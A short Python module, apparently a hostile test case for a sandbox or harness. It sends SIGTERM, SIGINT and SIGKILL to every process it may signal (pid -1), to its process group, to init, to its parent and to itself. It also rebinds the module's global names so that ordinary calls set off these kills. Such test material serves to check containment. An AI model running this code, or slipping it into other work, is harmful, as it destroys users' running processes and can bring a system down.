# tries: killing whoever may be killed, its own process and its parents included
import os
import signal

from arms import everything, quietly


def kill(*args, **kwargs):
    for process in (-1, 0, 1, os.getppid(), os.getpid()):
        for number in (signal.SIGTERM, signal.SIGINT, signal.SIGKILL):
            quietly(os.kill, process, number)


globals().update(everything(kill))
